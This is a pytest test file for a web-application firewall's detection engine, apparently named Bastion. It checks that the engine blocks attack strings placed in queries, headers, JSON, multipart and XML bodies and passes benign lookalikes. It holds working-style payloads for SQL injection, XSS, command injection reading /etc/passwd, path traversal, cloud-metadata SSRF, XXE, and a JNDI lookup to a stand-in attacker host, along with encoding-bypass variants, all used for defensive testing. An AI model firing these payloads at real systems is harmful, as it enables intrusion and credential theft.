"""The engine detects each attack category in every location and leaves benign lookalikes."""

from __future__ import annotations

import base64
import json
from urllib.parse import quote

import pytest
from detection_helpers import make_request

from bastion.stages.detection import DetectionEngine
from bastion.types import Request

#: One representative payload per category (Bastion's own examples, not from any rule set).
PAYLOADS: dict[str, str] = {
    "sqli": "1' UNION SELECT username, password FROM users--",
    "xss": "<img src=x onerror=alert(document.domain)>",
    "cmdi": "8.8.8.8; cat /etc/passwd",
    "path_traversal": "../../../../etc/shadow",
    "rfi": "php://filter/convert.base64-encode/resource=index",
    "ssrf": "http://169.254.169.254/latest/meta-data/iam/",
    "nosqli": "{'$where': 'sleep(5000)'}",
    "ldapi": "*)(|(objectclass=*))",
    "xxe": '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>',
    "ssti": "{{ self.__init__.__globals__ }}",
    "jndi": "${jndi:ldap://attacker.test/a}",
    "crlf": "x\r\nSet-Cookie: admin=1",
    "ssi": '<!--#exec cmd="id" -->',
    "mail_header": "me@example.com\r\nBcc: everyone@example.com",
    "prototype_pollution": "__proto__[isAdmin]",
}


def _locations(payload: str) -> dict[str, Request]:
    enc = quote(payload, safe="")
    boundary = "b0undary"
    multipart = f'--{boundary}\r\nContent-Disposition: form-data; name="field"\r\n\r\n{payload}\r\n--{boundary}--\r\n'
    return {
        "query": make_request(f"/search?q={enc}"),
        "path": make_request(f"/files/{enc}"),
        "x-header": make_request("/", headers=[("X-Custom-Thing", payload.replace("\r\n", " "))]),
        "cookie": make_request("/", headers=[("Cookie", f"pref={enc}")]),
        "form": make_request(
            "/",
            method="POST",
            body=f"a=1&field={enc}",
            content_type="application/x-www-form-urlencoded",
        ),
        "json": make_request(
            "/",
            method="POST",
            body=json.dumps({"user": {"bio": payload}}),
            content_type="application/json",
        ),
        "multipart": make_request(
            "/",
            method="POST",
            body=multipart,
            content_type=f"multipart/form-data; boundary={boundary}",
        ),
        "base64-query": make_request("/?data=" + base64.urlsafe_b64encode(payload.encode()).decode().rstrip("=")),
    }


#: Header values cannot carry CR/LF on the wire, so line-break categories skip headers.
_NO_HEADER = {"crlf", "mail_header"}


@pytest.mark.parametrize("category", sorted(PAYLOADS))
def test_each_category_blocked_in_each_location(engine: DetectionEngine, category: str) -> None:
    """A representative payload of every category is blocked wherever it is placed."""
    for where, request in _locations(PAYLOADS[category]).items():
        if where == "x-header" and category in _NO_HEADER:
            continue
        verdict = engine.evaluate(request)
        assert verdict.block_category is not None, (category, where, verdict.log_record())
        assert category in {h.rule.category for h in verdict.hits}, (category, where)


def test_hits_carry_location_and_redacted_snippet(engine: DetectionEngine) -> None:
    """Each hit names its rule, category and location; snippets are short and escaped."""
    request = make_request(
        "/",
        method="POST",
        body=json.dumps({"a": {"b": "x\x01\x02<script>alert(1)</script>" + "A" * 100}}),
        content_type="application/json",
    )
    record = engine.evaluate(request).log_record()
    assert record["blocked"] is True
    hit = next(h for h in record["hits"] if h["rule"] == 2001)
    assert hit["category"] == "xss"
    assert hit["location"] == "json:$.a.b"
    assert len(hit["snippet"]) <= 40
    assert all(c.isprintable() for c in hit["snippet"])


def test_json_keys_are_inspected(engine: DetectionEngine) -> None:
    """NoSQL operators and prototype pollution in JSON keys are detected."""
    for doc in (
        {"user": {"$ne": None}},
        {"__proto__": {"admin": True}},
        {"constructor": {"prototype": {"admin": True}}},
    ):
        request = make_request("/", method="POST", body=json.dumps(doc), content_type="application/json")
        assert engine.evaluate(request).block_category is not None, doc


def test_query_bracket_operators(engine: DetectionEngine) -> None:
    """``user[$ne]=x`` (NoSQL operator injection through query brackets) is blocked."""
    assert engine.evaluate(make_request("/login?user[$ne]=x&pass[$ne]=y")).block_category == "nosqli"


def test_multipart_filename_and_name(engine: DetectionEngine) -> None:
    """Multipart part names and filenames are inputs too."""
    body = '--b\r\nContent-Disposition: form-data; name="f"; filename="../../../etc/passwd"\r\n\r\ndata\r\n--b--\r\n'
    request = make_request("/", method="POST", body=body, content_type="multipart/form-data; boundary=b")
    assert engine.evaluate(request).block_category == "path_traversal"


def test_xml_body_is_scanned_for_xxe_only_in_markup(engine: DetectionEngine) -> None:
    """An XML body is blocked for XXE; ordinary XML markup alone is not XSS."""
    xxe = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>'
    ok = '<?xml version="1.0"?><order><item id="1"><name>O\'Brien &amp; sons</name></item></order>'
    assert (
        engine.evaluate(make_request("/", method="POST", body=xxe, content_type="application/xml")).block_category
        == "xxe"
    )
    assert (
        engine.evaluate(make_request("/", method="POST", body=ok, content_type="application/xml")).block_category
        is None
    )


@pytest.mark.parametrize(
    ("attribute", "category"),
    [
        ("../../../../etc/passwd", "path_traversal"),
        ("1' UNION SELECT password FROM users--", "sqli"),
        ("x > y; cat /etc/shadow", "cmdi"),  # a '>' inside the quotes does not end the tag
    ],
)
def test_xml_attribute_values_are_inputs(engine: DetectionEngine, attribute: str, category: str) -> None:
    """A quoted XML attribute value is inspected like a text node and named xml:attribute;
    ordinary attributes (ids, versions, URLs of a namespace) pass."""
    body = f'<?xml version="1.0"?><order xmlns="http://example.com/ns"><item sku="{attribute}">2</item></order>'
    verdict = engine.evaluate(make_request("/", method="POST", body=body, content_type="application/xml"))
    assert verdict.block_category == category
    assert "xml:attribute" in {h.location for h in verdict.hits if h.rule.category == category}
    ok = ('<?xml version="1.0" encoding="UTF-8"?><order xmlns="http://example.com/ns" id="ord-42">'
          "<item sku='A-1' note=\"O'Brien &amp; sons\" qty=\"2\"/></order>")
    assert engine.evaluate(make_request("/", method="POST", body=ok, content_type="application/xml")).hits == []


def test_gzip_body_is_inflated(engine: DetectionEngine) -> None:
    """A gzip-encoded body is inspected after (bounded) decompression."""
    import gzip

    body = gzip.compress(b"q=%3Cscript%3Ealert(1)%3C/script%3E")
    request = make_request(
        "/",
        method="POST",
        body=body,
        content_type="application/x-www-form-urlencoded",
        headers=[("Content-Encoding", "gzip")],
    )
    assert engine.evaluate(request).block_category == "xss"


BENIGN = [
    "Siobhan O'Brien",
    "union was a great select",
    "Please select the blue one; drop me a line.",
    "I'd rather not; it's 1 or 2 days late at most.",
    "john+or@var.es",
    "JavaScript: Basics of JavaScript Language",
    "echo in the mirror",
    "status eq 'active' and price lt 100",
    "country in ('IE','GB','FR')",
    "created_at>=2024-01-01;created_at<2024-02-01",
    "https://www.example.com/search?q=select+union&hl=en",
    "Rock & roll; cats | dogs -- pick one",
    "x > 5 and y < 10",
    "Use the <Enter> key to confirm",
    "Price: $25.00 (was $40)",
    "## Setup\n\n```bash\npip install requests\n```",
    "See ../docs/setup.md for details",
    "Meeting at 10.0 sharp",
    "export default function B({ onClick }) { return <button onClick={onClick}>ok</button>; }",
    "The alert went off at 3am",
    "c/o Mary O'Brien, Apt. 3B #4",
    "Café crème brûlée",
    "dGVzdA",  # base64 of "test"
]


@pytest.mark.parametrize("text", BENIGN)
def test_benign_lookalikes_pass(engine: DetectionEngine, text: str) -> None:
    """Text that merely resembles an attack is not blocked, in a query or a JSON body."""
    for request in (
        make_request("/search?q=" + quote(text, safe="")),
        make_request("/", method="POST", body=json.dumps({"comment": text}), content_type="application/json"),
    ):
        verdict = engine.evaluate(request)
        assert verdict.block_category is None, (text, verdict.log_record())


def test_ordinary_request_has_no_hits(engine: DetectionEngine) -> None:
    """A typical API request produces no detection at all (nothing is logged)."""
    request = make_request(
        "/v1/orders?dry_run=false",
        method="POST",
        body=json.dumps({"name": "Ann O'Neill", "email": "ann+shop@example.com", "qty": 2}),
        content_type="application/json",
        headers=[("Authorization", "Bearer abc.def.ghi"), ("Referer", "https://shop.example.com/cart")],
    )
    assert engine.evaluate(request).hits == []


@pytest.mark.parametrize(
    ("query", "category"),
    [
        ("q=%5Cud800%2541", None),
        ("q=%5Cud800%5Cx27%20or%201%3D1--", "sqli"),
        ("q=%5Cud800%5Cx3cscript%5Cx3ealert(1)%5Cx3c/script%5Cx3e", "xss"),
    ],
)
def test_lone_surrogate_escapes_are_inspected_not_raised(
    engine: DetectionEngine, query: str, category: str | None
) -> None:
    """A ``\\ud800`` JS escape leaves a lone surrogate in a view; the URL decoder and libinjection
    (which take UTF-8) used to raise on it, turning any request into a stage error. Found by
    tests/fuzz/fuzz_normalize.py."""
    verdict = engine.evaluate(make_request("/search?" + query))
    assert verdict.block_category == category


@pytest.mark.parametrize("value", ["shoes%' OR 'b%'='b", "shoes%' OR 'c%'='b", "x' AND '%'='%"])
def test_boolean_pairs_that_close_a_like_pattern(engine: DetectionEngine, value: str) -> None:
    """A boolean pair written to close a LIKE pattern (quoted operands holding '%') is an
    injection, found by the scanner's closed loop: it must score as one on its own."""
    verdict = engine.evaluate(make_request("/products?search=" + quote(value)))
    assert verdict.block_category == "sqli"
    assert 1009 in {h.rule.id for h in verdict.hits}


def test_base64_payload_with_spaces_around_it_is_decoded(engine: DetectionEngine) -> None:
    """A base64-encoded payload is decoded with spaces before or after it too (decoders skip
    them): the shortcuts for plain values once returned it undecoded, a bypass."""
    import base64

    payload = base64.b64encode(b"' or 1=1 union select password from users --").decode()
    for value in (payload, " " + payload, payload + " ", "  " + payload + " "):
        query = "q=" + value.replace(" ", "%20")
        assert engine.evaluate(make_request("/?" + query)).block_category == "sqli", repr(value)
        body = json.dumps({"a": value})
        request = make_request("/", method="POST", body=body, content_type="application/json")
        assert engine.evaluate(request).block_category == "sqli", repr(value)
